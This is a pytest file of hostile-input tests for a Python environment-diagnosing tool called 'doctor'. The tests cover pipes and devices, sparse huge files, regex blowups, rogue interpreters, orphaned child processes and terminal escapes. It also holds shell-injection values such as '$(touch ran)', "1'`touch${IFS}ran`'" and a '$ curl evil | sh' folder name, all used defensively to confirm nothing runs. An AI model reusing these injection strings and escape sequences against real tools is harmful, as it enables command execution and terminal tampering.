"""Attacks on the doctor: environments, logs and programs that are made to stop it, to be run by it, or to speak
through it."""

from __future__ import annotations

import json
import os
import shlex
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Sequence
from pathlib import Path

import pytest

from doctor import __main__ as program
from doctor.answer import diagnose
from doctor.base import versions
from doctor.case import Case
from doctor.read import files, machine, programs, pythons, requirements, symptoms
from doctor.read.elf import Effort, NotElfError, SharedObject
from tests.conftest import ROOT
from tests.unit.doctor.elf import SYMBOL, shared_object
from tests.unit.doctor.kit import KNOWLEDGE, install, of, only

LIMIT = 60  # seconds after which it hangs; all of these take about one


def ask(*argv: str, memory: int = 1500) -> tuple[int, str, str]:
    """The doctor as a process of its own, with so many megabytes of address space: exit code, output, complaints."""
    limited = ["/bin/sh", "-c", f'ulimit -v {memory * 1024}; exec "$@"', "sh", sys.executable, "-m", "doctor", *argv]
    done = subprocess.run(limited, cwd=ROOT, capture_output=True, text=True, timeout=LIMIT, check=False)
    assert "Traceback" not in done.stderr
    return done.returncode, done.stdout, done.stderr


def venv(folder: Path, settings: str = "home = /usr/bin\nversion = 3.11.2\n") -> Path:
    """A virtual environment with one package."""
    (folder / "bin").mkdir(parents=True)
    (folder / "pyvenv.cfg").write_text(settings)
    install(folder / "lib" / "python3.11" / "site-packages", "trl", "1.0.0")
    return folder


def script(file: Path, body: str) -> Path:
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text("#!/bin/sh\n" + body)
    file.chmod(0o755)
    return file


def gone(mark: str) -> bool:
    """Has every process ended whose command line holds a mark?"""
    for _ in range(100):
        lines = [file.read_bytes() for file in Path("/proc").glob("[0-9]*/cmdline") if _there(file)]
        if not any(mark.encode() in line for line in lines):
            return True
        time.sleep(0.05)
    return False


def _there(file: Path) -> bool:
    try:
        return bool(file.read_bytes())
    except OSError:
        return False


# Files that are none.


def special(path: Path, kind: str) -> None:
    if kind == "a pipe":
        os.mkfifo(path)
    elif kind == "a folder":
        path.mkdir()
    elif kind == "a device":
        path.symlink_to("/dev/zero")
    elif kind == "a socket":
        here = Path.cwd()
        os.chdir(path.parent)  # a socket's path is short
        try:
            with socket.socket(socket.AF_UNIX) as bound:
                bound.bind(path.name)
        finally:
            os.chdir(here)
    else:
        path.symlink_to(path)


KINDS = ["a pipe", "a folder", "a device", "a socket", "a loop"]


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("option", ["--requirements", "--config", "--log", "--python"])
def test_a_pipe_or_a_device_is_named_as_a_file(tmp_path: Path, kind: str, option: str) -> None:
    """Whoever opens a pipe waits for a writer, and a device never ends."""
    special(tmp_path / "hostile", kind)
    more = ["--python", str(venv(tmp_path / "venv"))] if option in ("--config", "--log") else []
    code, out, err = ask(option, str(tmp_path / "hostile"), *more)
    assert (code, out) == (3, "")
    assert str(tmp_path / "hostile") in err


@pytest.mark.parametrize("kind", KINDS)
def test_a_pipe_or_a_device_lies_in_the_environment(tmp_path: Path, kind: str) -> None:
    """Every file that is read of an environment is one that nothing can be read from."""
    root = venv(tmp_path / "venv")
    site = root / "lib" / "python3.11" / "site-packages"
    (root / "pyvenv.cfg").unlink()
    for package in ("torch", "bitsandbytes", "xformers"):
        info = install(site, package, "2.8.0")
        (info / "RECORD").unlink()
        (info / "METADATA").unlink()
        for name in ("RECORD", "METADATA", "PKG-INFO"):
            special(info / name, kind)
    for name in ("version.py", "lib/libc10.so", "lib/libtorch_cpu.so"):
        (site / "torch" / name).parent.mkdir(parents=True, exist_ok=True)
        special(site / "torch" / name, kind)
    special(site / "xformers_cuda.so", kind)
    special(root / "pyvenv.cfg", kind)
    code, out, err = ask("--python", str(root), "--json")
    assert (code, err) == (1, "")
    output = json.loads(out)
    assert output["packages"] == {"trl": "1.0.0", "torch": "2.8.0", "bitsandbytes": "2.8.0", "xformers": "2.8.0"}
    titles = [finding["title"] for finding in output["findings"]]
    assert any("pyvenv.cfg cannot be read" in title for title in titles)
    assert any("METADATA that cannot be read" in title for title in titles)


def test_a_pipe_takes_the_place_of_a_file_that_was_looked_at(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Between the look and the opening the file becomes a pipe."""
    regular = tmp_path / "file"
    regular.write_text("x")
    seen = regular.stat()
    os.mkfifo(tmp_path / "pipe")
    monkeypatch.setattr("doctor.read.files.os.stat", lambda _: seen)
    with pytest.raises(OSError, match="it is a pipe"):
        files.head(tmp_path / "pipe", 10)


# More than fits.


@pytest.mark.parametrize("content", [b"\0", b"version = 3.11.2\n"])
def test_a_pyvenv_cfg_of_many_gigabytes(tmp_path: Path, content: bytes) -> None:
    """A sparse file costs its author nothing, and who reads all of it the memory."""
    root = venv(tmp_path / "venv")
    with (root / "pyvenv.cfg").open("wb") as file:
        file.write(content)
        file.truncate(50 * 2**30)
    code, out, err = ask("--python", str(root))
    assert (code, err) == (1, "")
    assert "pyvenv.cfg is larger than 64 KB" in out
    assert "1 packages" in out


def test_a_log_without_an_end(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Of a log that is larger than anybody waits for, the beginning and the end are read."""
    monkeypatch.setattr(symptoms, "PART", 2**20)
    with (tmp_path / "log").open("wb") as file:
        file.write(b"ValueError: first\n")
        file.truncate(2**40)
        file.seek(0, os.SEEK_END)
        file.write(b"\nValueError: last\n")
    output = symptoms.read(str(tmp_path / "log"))
    assert "first" in output and "last" in output and "were not read" in output
    assert len(output) < 200_000


def test_a_folder_with_more_distributions_than_anybody_has(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A million names are not all listed, and that is said."""
    monkeypatch.setattr(files, "MOST_NAMES", 50)
    for number in range(100):
        (tmp_path / f"package_{number}-1.0.dist-info").mkdir()
    case = of(tmp_path)
    assert len(case.environment.packages) <= 50
    assert not case.environment.complete
    assert "more than 50" in only(case, "unread").title


def test_metadata_that_fills_the_memory_of_who_keeps_it(tmp_path: Path) -> None:
    """Hundreds of distributions declare thousands of requirements, each of a length that nobody needs."""
    line = "Requires-Dist: " + "a" * 400 + "\n"
    for number in range(400):
        info = install(tmp_path, f"p{number}", "1.0")
        (info / "METADATA").write_text(f"Name: p{number}\nVersion: 1.0\n" + line * 1200 + "\n")
    code, out, err = ask("--python", str(tmp_path), memory=700)
    assert (code, err) == (1, "")
    assert "more metadata than any environment needs" in out


def test_a_shared_object_with_endless_symbols_and_names(tmp_path: Path) -> None:
    """Symbols that share one long string table cost their author little, and who copies each name gigabytes."""
    file = tmp_path / "x.so"
    file.write_bytes(shared_object(["libc10.so"], [SYMBOL], ["one", "two"]))
    effort = Effort(left=3)
    with SharedObject(file, effort) as library, pytest.raises(NotElfError, match="more symbols"):
        for _ in range(10):
            library.undefined(("_ZN",))
    with file.open("r+b") as opened:
        opened.truncate(2**42)
    with SharedObject(file) as library:
        assert library.needed == ["libc10.so"]


def test_a_record_that_leads_out_of_the_environment(tmp_path: Path) -> None:
    """A RECORD names files by a whole path, or by one that no system can open."""
    site = tmp_path / "site"
    (site / "torch" / "lib").mkdir(parents=True)
    for name in ("libc10.so", "libtorch_cpu.so"):
        (site / "torch" / "lib" / name).write_bytes(shared_object(offers=["one"]))
    install(site, "torch", "2.8.0")
    info = install(site, "xformers", "1.0")
    (tmp_path / "outside.so").write_bytes(shared_object(["libc10.so"], [SYMBOL]))
    (info / "RECORD").write_text(f"{tmp_path}/outside.so,,\n{'a' * 5000}.so,,\na\0b.so,,\n")
    assert [finding.rule for finding in diagnose.findings(of(site)) if finding.sure] == []


@pytest.mark.parametrize("line", ["trl; " + "(" * 1900, "a @ " + "a-1" * 600, "a" + " " * 1990 + "x", "[" * 1900])
def test_a_requirement_that_no_parser_comes_to_the_end_of(tmp_path: Path, line: str) -> None:
    """Brackets nested deeper than Python calls itself, and blanks that a pattern tries in every way."""
    (tmp_path / "list.txt").write_text("left-pad==1.0\n" + f"{line}\n" * 3000)
    code, _, err = ask("--requirements", str(tmp_path / "list.txt"))
    assert (code, err) == (0, "")
    info = install(tmp_path / "site", "trl", "1.0.0")
    (info / "METADATA").write_text(f"Name: trl\nVersion: 1.0.0\nRequires-Dist: {line}\n")
    code, _, err = ask("--python", str(tmp_path / "site"))
    assert (code, err) == (0, "")


@pytest.mark.parametrize("piece", ["a1-", "A.", "a(", "increas", "/a.so", "a 1 requires b <1,"])
def test_an_error_that_patterns_try_in_every_way(piece: str) -> None:
    """Half a thousand lines of two thousand letters each, all of them beginnings of something: it took minutes."""
    text = symptoms.plain("\n".join([(piece * 2000)[:2000]] * 520))
    assert len(text) <= symptoms.MOST + 520
    case = Case(requirements.of_versions("x", {"torch": "2.8.0"}), error=text, knowledge=KNOWLEDGE)
    assert isinstance(diagnose.findings(case), list)


@pytest.mark.parametrize("name", ["~nobody-of-this-name/x", "a" * 5000, "/root\udcff/x"])
def test_a_path_that_no_system_can_open(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    """A user who does not exist, a name that is too long, letters that are none."""
    for option in ("--python", "--requirements", "--log"):
        assert program.main([option, name]) == 3
    assert capsys.readouterr().err.count("doctor: ") == 3


# What it runs.


@pytest.mark.parametrize("named", ["", "bin/python3"])
@pytest.mark.parametrize("system", ["true", "false"])
def test_a_pyvenv_cfg_names_a_program(tmp_path: Path, named: str, system: str) -> None:
    """The environment that is looked at names its home: what lies there was run."""
    ran = tmp_path / "ran"
    evil = script(tmp_path / "evil" / "bin" / "python3", f"touch {ran}\n").parent
    root = venv(
        tmp_path / "venv",
        f"home = {evil}\nexecutable = {evil}/python3\nversion = 3.11.2\ninclude-system-site-packages = {system}\n",
    )
    script(root / "bin" / "python3", f"touch {ran}\n")
    code, out, err = ask("--python", str(root / named))
    assert err == "" and not ran.exists()
    assert ("there is none" in out, code) == ((True, 1) if system == "true" else (False, 0))


def test_a_folder_is_named_that_is_no_virtual_environment(tmp_path: Path) -> None:
    """Its Python was run, without anybody having named it."""
    ran = tmp_path / "ran"
    script(tmp_path / "folder" / "bin" / "python3", f"touch {ran}\n")
    code, _, err = ask("--python", str(tmp_path / "folder"))
    assert (code, ran.exists()) == (3, False)
    assert "only an interpreter that you name yourself is run" in err
    install(tmp_path / "folder" / "lib" / "python3.11" / "site-packages", "trl", "1.0.0")
    for named in ("folder", "folder/bin/python3"):
        code, out, _ = ask("--python", str(tmp_path / named))
        assert (code, ran.exists(), "1 packages" in out) == (0, False, True)


def test_the_environment_brings_its_own_nvidia_smi(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """An environment that is activated comes first on PATH."""
    ran = tmp_path / "ran"
    root = venv(tmp_path / "venv")
    script(root / "bin" / "nvidia-smi", f"touch {ran}; echo '570.1, NVIDIA H200'\n")
    seen = pythons.of_path(str(root))
    monkeypatch.chdir(root / "bin")
    monkeypatch.setenv("PATH", f"{root}/bin:.::{root}/lib/../bin")
    assert machine.inspect(None, avoid=seen.program_folders).driver is None
    assert not ran.exists()
    # The same program elsewhere is the machine's.
    script(tmp_path / "bin" / "nvidia-smi", "echo '570.1, NVIDIA H200'\n")
    monkeypatch.setenv("PATH", f"{root}/bin:{tmp_path}/bin:/bin")
    assert machine.inspect(None, avoid=seen.program_folders).driver == "570.1"


def test_a_program_that_was_named_sees_no_secrets(monkeypatch: pytest.MonkeyPatch) -> None:
    """It gets a clean environment, and nothing that loads code into a Python."""
    monkeypatch.setenv("HF_TOKEN", "secret")
    monkeypatch.setenv("PYTHONPATH", "/evil")
    monkeypatch.setenv("LD_PRELOAD", "")
    output = programs.ask(["/usr/bin/env"], 20, 65536).decode()
    assert "HF_TOKEN" not in output and "PYTHONPATH" not in output and "LD_PRELOAD" not in output
    assert "PATH=" in output


@pytest.mark.parametrize(
    ("body", "output"),
    [
        ("yes", "prints more than 64 KB"),
        ("exec cat /dev/zero", "prints more than 64 KB"),
        ("echo '[[[[[[[['", "does not answer like a Python"),
        ('echo \'{"folders": [1], "python": "\\u001b]52;c;x\\u0007", "include": ""}\'', "does not answer"),
    ],
)
def test_a_program_that_was_named_never_ends_or_answers_anything(tmp_path: Path, body: str, output: str) -> None:
    """Endless output filled the memory."""
    code, out, err = ask("--python", str(script(tmp_path / "python3", body + "\n")))
    assert (code, out) == (3, "")
    assert output in err and "\x1b" not in err


@pytest.mark.parametrize("start", ["sleep 98765{} &", "setsid sleep 98765{} &", "(setsid sh -c 'sleep 98765{} &' &) &"])
@pytest.mark.parametrize("end", ["exit 1", "sleep 98764{}", "yes"])
def test_a_program_leaves_a_grandchild_behind(start: str, end: str, tmp_path: Path) -> None:
    """It starts another that keeps its output open, in a session of its own where it can; none of them is left."""
    unique = str(os.getpid())
    hostile = script(tmp_path / "x", f"{start}\nsleep 0.2\n{end}\n".replace("{}", unique))
    try:
        programs.ask([str(hostile)], 1, 65536)
    except programs.NoAnswerError:
        assert end != "exit 1"
    assert gone("98765" + unique) and gone("98764" + unique)


@pytest.mark.parametrize("how", [signal.SIGINT, signal.SIGTERM, signal.SIGKILL])
def test_the_doctor_is_killed_while_it_asks(how: signal.Signals, tmp_path: Path) -> None:
    """What it asked ends with it, and what that started too."""
    unique = f"98763{os.getpid()}{how.value}"
    hostile = script(tmp_path / "x", f"sleep {unique} &\ntouch {shlex.quote(str(tmp_path))}/begun\nsleep {unique}\n")
    asking = f"from doctor.read import programs; programs.ask([{str(hostile)!r}], 60, 10)"
    with subprocess.Popen([sys.executable, "-c", asking], cwd=ROOT, stderr=subprocess.DEVNULL) as child:
        while not (tmp_path / "begun").exists():
            assert child.poll() is None
            time.sleep(0.01)
        child.send_signal(how)
        assert child.wait(LIMIT) != 0
    assert gone(unique)


# What it says.

CURSED = "\x1b]52;c;ZXZpbA==\x07\x1b[2J\u202e\u2066[red]\r"


def controls(output: str) -> list[str]:
    return [letter for letter in output if not letter.isprintable() and letter != "\n"]


def test_escapes_reach_the_terminal(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Names of folders, metadata, errors and configurations carry OSC 52, bidi marks and markup."""
    site = tmp_path / f"a{CURSED}\n$ curl evil | sh" / "lib" / "python3.11" / "site-packages"
    install(site, "trl", "1.0.0", [f"torch==={CURSED.replace(chr(13), '')}"], python=">=3.99")
    install(site, "torch", "2.8.0")
    (site / f"~{CURSED}rch").mkdir()
    (site.parents[2] / "pyvenv.cfg").write_text(
        f"home = /x{CURSED}\nversion = 3.11.2\ninclude-system-site-packages = true\n"
    )
    (site.parents[2] / "bin").mkdir()
    (site.parents[2] / "bin" / "python3").touch()
    error = f"ImportError: cannot import name 'X{CURSED}' from 'trl'\nRuntimeError: a{CURSED}b_c"
    assert program.main(["--python", str(site.parents[2]), "--error", error]) == 1
    output = capsys.readouterr().out
    assert controls(output) == []
    assert not any(line.startswith("$ curl") for line in output.splitlines())
    assert program.main(["--python", str(site.parents[2] / CURSED)]) == 3
    assert controls(capsys.readouterr().err) == []
    assert program.main(["--lock-of", CURSED]) == 3
    assert controls(capsys.readouterr().err) == []


def shell(command: str, folder: Path) -> Sequence[str]:
    """The words that a shell makes of a command."""
    done = subprocess.run(["/bin/sh", "-c", f"set -- {command}; printf '%s\\0' \"$@\""], cwd=folder,
                          capture_output=True, text=True, check=True)  # fmt: skip
    return done.stdout.split("\0")[:-1]


@pytest.mark.parametrize("version", ["1'`touch${IFS}ran`'", "$HOME"])
def test_a_requirement_is_a_command_of_the_shell(tmp_path: Path, version: str) -> None:
    """Behind "===" any letter may stand, and the command that is printed is pasted."""
    assert versions.requirement(f"torch==={version}") is not None
    install(tmp_path, "trl", "1.0.0", [f"torch==={version}"])
    install(tmp_path, "torch", "2.8.0")
    commands = [line for finding in diagnose.findings(of(tmp_path)) for line in finding.commands]
    assert commands
    for command in commands:
        words = shell(command, tmp_path)
        assert list(words[:3]) == ["uv", "pip", "install"] and len(words) == 4
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize("name", ["a b", "a'b", "$(touch ran)", "`touch ran`", "a;touch ran", "-x"])
def test_a_path_is_a_command_of_the_shell(
    tmp_path: Path, name: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The environment's own path stands in every command that is printed."""
    root = venv(tmp_path / name)
    install(root / "lib" / "python3.11" / "site-packages", "torch", "2.8.0")
    install(root / "lib" / "python3.11" / "site-packages", "torchvision", "0.1.0")
    (root / "bin" / "python3").touch()
    monkeypatch.chdir(tmp_path)
    program.main([f"--python={name}", "--json"])
    commands = [line for finding in json.loads(capsys.readouterr().out)["findings"] for line in finding["commands"]]
    assert commands
    for command in commands:
        words = shell(command, tmp_path)
        place = words.index("--python")
        assert (tmp_path / words[place + 1]).resolve() == (root / "bin" / "python3").resolve()
        assert not words[place + 1].startswith("-")
    assert not (tmp_path / "ran").exists()


def test_a_name_that_leads_out_of_its_folder(tmp_path: Path) -> None:
    """METADATA names ../../x, and a version of ten megabytes."""
    for number, (name, version) in enumerate((("../../x", "1.0"), ("x", "9" * 10_000_000))):
        (tmp_path / f"y{number}-1.0.dist-info").mkdir()
        (tmp_path / f"y{number}-1.0.dist-info" / "METADATA").write_text(f"Name: {name}\nVersion: {version}\n\n")
    assert {package.name: package.version for package in of(tmp_path).environment.packages.values()} == {
        "y0": "1.0",
        "y1": "1.0",
    }
